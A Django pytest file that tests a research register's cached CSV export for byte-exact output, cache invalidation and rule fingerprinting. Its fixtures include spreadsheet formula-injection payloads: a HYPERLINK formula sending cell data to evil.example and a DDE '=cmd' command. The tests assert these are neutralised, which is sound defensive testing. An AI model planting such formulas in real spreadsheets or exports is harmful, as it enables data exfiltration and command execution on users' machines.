"""The register's CSV from the cells kept with each entry (``register_csv``) is the file the
entries' fields give, byte for byte, on data that is hard to write as CSV: quotes, commas, line
breaks, cells a spreadsheet would run as formulas, non-ASCII names, empty and null values."""

from __future__ import annotations

import datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from rest_framework.test import APIClient

from workflow.models import OutputKind, ProjectOutput, RegisterEntry, State
from workflow.transparency import selectors
from workflow.transparency.register_csv import CSV_FORMAT, kept_cells
from workflow.transparency.serializers import RegisterEntrySerializer, register_csv
from workflow.transparency.services import register_csv_cells_keep

pytestmark = pytest.mark.django_db

CSV = "/api/v1/register.csv"

TRICKY = {
    "organisation": '@Prifysgol "Bangor", Cymru',
    "organisation_sector": "-Academic",
    "applicants": ["Siân Ó'Brien", 'Zoë "Zed", Jr.', "=Dr Evil", ""],
    "lead_applicant_dea_accredited": None,
    "title": '=HYPERLINK("http://evil.example/?"&A1, "x")',
    "lay_summary": 'Line one,\nline two\r\nline "three"\rend',
    "public_benefit": "+44 benefits; 100%",
    "purpose": "\tTabbed",
    "funders": "",
    "other_approvals": [
        {"committee": "-REC Wales", "reference": "a,b", "approved_on": None},
        {"committee": "", "reference": "", "approved_on": "2026-01-02"},
    ],
    "start_date": None,
    "end_date": datetime.date(2027, 3, 1),
    "access_granted_on": None,
    "datasets": [
        {
            "slug": "s",
            "title": 'Dataset, "one"',
            "provider": "=Provider",
            "sensitivity": "De-personalised",
            "legal_gateway": "Consent\nsecond line",
        }
    ],
    "sensitivity": "",
    "conditions": ['"Quoted"', "\rcarriage", "名前 ✓"],
    "panel_decisions": [
        {"panel": "IGRP, Wales", "decided_on": "2026-02-03", "votes": None, "lay_votes": None},
        {"panel": "@DEA", "decided_on": None, "votes": 3, "lay_votes": 1},
    ],
}


def _reference_csv() -> str:
    """The CSV the entries' API representation gives (the serializer, then the columns' rules):
    the file as it was written before the cells were kept."""
    return register_csv(RegisterEntrySerializer(selectors.register_entries(), many=True).data)


def _download() -> str:
    response = APIClient().get(CSV)
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


@pytest.fixture
def tricky_register(settings):
    from tests.factories.workflow import World

    settings.VAR_DIR = settings.VAR_DIR / "register-csv-cells"
    world = World()
    active = world.at(State.ACTIVE, title="-Negative title, with a comma")
    world.at(State.REJECTED, title="Declined")
    world.at(State.CLOSED, title="Closed")
    # Written as SQL would (the bench's loader, an entry from before the cells were kept): the
    # cells of no format.
    RegisterEntry.objects.filter(application=active).update(**TRICKY, csv_cells="", csv_format="")
    for n, (title, url) in enumerate(
        [("=cmd|' /C calc'!A0", 'https://example.org/a,b?q="x"'), ("Zoë's code", "https://e.x/2")]
    ):
        ProjectOutput.objects.create(
            application=active, kind=OutputKind.CODE, title=title, url=url, added_by=world.pi
        )
        ProjectOutput.objects.filter(application=active, title=title).update(
            added_at=datetime.datetime(2026, 5, 1 + n, tzinfo=datetime.UTC)
        )
    return world, active


def test_the_csv_from_kept_cells_is_the_entries_csv_byte_for_byte(tricky_register):
    world, active = tricky_register
    reference = _reference_csv()
    # The hard cells are in it, made safe and quoted.
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1, ""x"")"' in reference
    assert '"Line one,\nline two\r\nline ""three""\rend"' in reference
    assert "名前 ✓" in reference
    # The first download works out the missing cells and stores them: the same bytes.
    assert _download() == reference
    entry = RegisterEntry.objects.get(application=active)
    assert entry.csv_format == CSV_FORMAT
    assert entry.csv_cells == kept_cells(entry)
    # Cells written by the service with the entry give the same bytes too.
    world.at(State.ACTIVE, title='+Written by the service, "quoted"\nand broken')
    assert RegisterEntry.objects.exclude(csv_format=CSV_FORMAT).count() == 0
    reference = _reference_csv()
    assert _download() == reference


def test_a_download_after_a_change_works_out_no_cell(tricky_register):
    """Once every entry's cells are kept, a download reads them (no entry read whole) and writes
    none: its statements do not grow with the entries."""
    world, _ = tricky_register
    _download()
    world.at(State.ACTIVE, title="A change")
    with CaptureQueriesContext(connection) as captured:
        body = _download()
    statements = [q["sql"] for q in captured.captured_queries if "tre_cache" not in q["sql"]]
    assert not any("UPDATE" in sql for sql in statements)
    assert not any('"workflow_registerentry"."title"' in sql for sql in statements)
    assert "A change" in body
    assert body == _reference_csv()


def test_cells_of_an_older_format_are_written_again(tricky_register):
    world, active = tricky_register
    _download()
    entry = RegisterEntry.objects.get(application=active)
    # A format this code does not write (the columns or a cell's rule changed since).
    RegisterEntry.objects.filter(pk=entry.pk).update(csv_cells="stale,cells", csv_format="old")
    before = RegisterEntry.objects.get(pk=entry.pk).updated_at
    world.at(State.REJECTED, title="A new version of the register")
    body = _download()
    assert "stale,cells" not in body
    assert body == _reference_csv()
    entry.refresh_from_db()
    assert entry.csv_format == CSV_FORMAT
    # Writing the cells is not a change of the register: its version does not move.
    assert entry.updated_at == before


def test_cells_worked_out_from_an_entry_changed_meanwhile_are_not_stored(tricky_register):
    """A download works out the cells of an entry as it read it; if the entry was written again
    in the meantime (its own, current cells), the download's are dropped, not stored over it."""
    _, active = tricky_register
    entry = RegisterEntry.objects.get(application=active)
    as_read = kept_cells(entry)
    RegisterEntry.objects.filter(pk=entry.pk).update(
        title="Changed meanwhile", updated_at=entry.updated_at + datetime.timedelta(seconds=1)
    )
    assert register_csv_cells_keep([(entry, as_read)]) == 0
    assert RegisterEntry.objects.get(pk=entry.pk).csv_format == ""
    # As it was read, it is stored.
    entry.refresh_from_db()
    assert register_csv_cells_keep([(entry, kept_cells(entry))]) == 1
    assert "Changed meanwhile" in RegisterEntry.objects.get(pk=entry.pk).csv_cells


def _cell_rules_fingerprint() -> str:
    """The source of every rule that writes a kept cell: each column's cell function (and the
    lines they join), how a value becomes a cell, and the spreadsheet-safety rule."""
    import hashlib
    import inspect

    from core import spreadsheet
    from workflow.transparency import register, register_csv

    rules = {cell for _, _, cell in register_csv.CSV_COLUMNS}
    rules |= {register._panel_decision_line, register._approval_line, register_csv._cell_value}
    rules |= {spreadsheet.safe_cell}
    sources = sorted(inspect.getsource(rule) for rule in rules)
    sources.append(repr(spreadsheet.FORMULA_START))
    return hashlib.sha256("".join(sources).encode()).hexdigest()[:16]


# The rules' fingerprint for each CELLS_VERSION.
CELL_RULES = {"1": "441f00b8d8a86171"}


def test_a_change_of_a_cell_rule_comes_with_a_new_cells_version():
    """Cells kept with the entries are rewritten only when their format changes: a rule
    changed without bumping ``register_csv.CELLS_VERSION`` would leave every kept row as the
    old rule wrote it. Changed a rule? Bump the version and record the new fingerprint here."""
    from workflow.transparency.register_csv import CELLS_VERSION

    assert CELL_RULES.get(CELLS_VERSION) == _cell_rules_fingerprint()
